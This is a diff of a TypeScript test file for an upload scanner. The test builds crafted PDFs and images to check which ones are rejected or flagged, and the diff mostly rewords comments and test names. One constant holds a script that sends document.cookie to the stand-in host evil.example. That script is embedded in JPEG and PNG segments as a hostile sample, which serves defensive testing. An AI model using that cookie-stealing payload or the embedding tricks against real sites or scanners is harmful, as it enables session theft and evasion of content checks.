@@ -1,4 +1,4 @@
-// Files that are more than they look like, and good ones that look odd, by link to a real storage, past a real scanner.
+// Files with hidden content, and harmless ones that look odd, uploaded by link to a real storage and checked by a real scanner.
 import { DOCUMENT_FINDINGS, type DocumentFinding } from '@onboarding/contract';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { freePort } from '../../scripts/free-port.ts';
@@ -88,7 +88,7 @@ async function outcomeOf({ documentId }: Sent): Promise<string> {
   return outcome;
 }
 
-/** What each of the files comes to. */
+/** The outcome of each file. */
 async function outcomesOf(files: Record<string, [Type, Buffer]>): Promise<Record<string, string>> {
   const sent = await Promise.all(
     Object.entries(files).map(async ([what, [type, bytes]]) => [what, await send(type, bytes)] as const),
@@ -106,13 +106,13 @@ const PAGE = '<html><body><script>fetch("//evil.example/"+document.cookie)</scri
 const XMP = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>';
 const segment = (code: number, content: Buffer) =>
   joined(Buffer.from([0xff, code, (content.length + 2) >> 8, (content.length + 2) & 255]), content);
-/** With something behind the first KiB. */
+/** Places the segments after the first KiB. */
 const jpegWith = (...segments: Buffer[]) =>
   joined(jpegOf().subarray(0, 20), segment(0xe2, Buffer.alloc(2_000, 3)), ...segments, jpegOf().subarray(20));
 const pngWith = (...chunks: Buffer[]) =>
   joined(pngOf().subarray(0, 33), pngChunk('tEXt', Buffer.alloc(2_000, 0x61)), ...chunks, pngOf().subarray(33));
 
-test('good files with a byte too many, or a description, are confirmed', async () => {
+test('confirms harmless files with trailing bytes or metadata', async () => {
   const files: Record<string, [Type, Buffer]> = {
     'a byte behind the end of a document': [PDF, joined(pdfOf('hello'), '\x1a')],
     'a line end behind the end of a document': [PDF, joined(pdfOf('hello'), '\r\n\n')],
@@ -130,7 +130,7 @@ test('good files with a byte too many, or a description, are confirmed', async (
   expect(await outcomesOf(files)).toEqual(all(files, 'Confirmed'));
 });
 
-test('a picture that claims more pixels than anybody needs is rejected, however small its file', async () => {
+test('rejects an image that declares too many pixels, however small its file', async () => {
   const files: Record<string, [Type, Buffer]> = {
     'a picture of 60,000 by 60,000 pixels': [PNG, pngOf(60_000, 60_000)],
     'a photograph of 65,535 by 65,535 pixels': [JPEG, jpegOf({ width: 65_535, height: 65_535 })],
@@ -138,7 +138,7 @@ test('a picture that claims more pixels than anybody needs is rejected, however 
   expect(await outcomesOf(files)).toEqual(all(files, 'Rejected TooLarge'));
 });
 
-test('a page or an archive in a picture is rejected, however far behind its beginning', async () => {
+test('rejects an image or document that contains a page, an archive or a program, however far from its beginning', async () => {
   const files: Record<string, [Type, Buffer]> = {
     'a page in a remark of a photograph': [JPEG, jpegWith(segment(0xfe, Buffer.from(PAGE)))],
     'a page in the scan of a photograph': [
@@ -163,8 +163,8 @@ test('a page or an archive in a picture is rejected, however far behind its begi
   expect(await outcomesOf(files)).toEqual(all(files, 'Rejected ContentMismatch'));
 });
 
-// Escaped names are left out: this scanner takes them for an infection by themselves.
-test('a document that can do more than be read is confirmed, and analysts are told what', async () => {
+// Escaped names are omitted: this scanner reports them as an infection.
+test('confirms a document with active content, and flags what it contains for analysts only', async () => {
   const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
   const files: [DocumentFinding, Buffer][] = [
     ['JavaScript', pdfWith(`9 0 obj${script}endobj`)],
@@ -190,7 +190,7 @@ test('a document that can do more than be read is confirmed, and analysts are to
       documents: [{ documentId, findings: [files[index]?.[0]] }],
       more: false,
     });
-    // The partner is not told.
+    // Partners do not see the findings.
     const record = JSON.stringify((await call('GET', `/${customerId}`)).value);
     expect([...DOCUMENT_FINDINGS, 'findings', 'ActiveContent'].filter((word) => record.includes(word))).toEqual([]);
   }
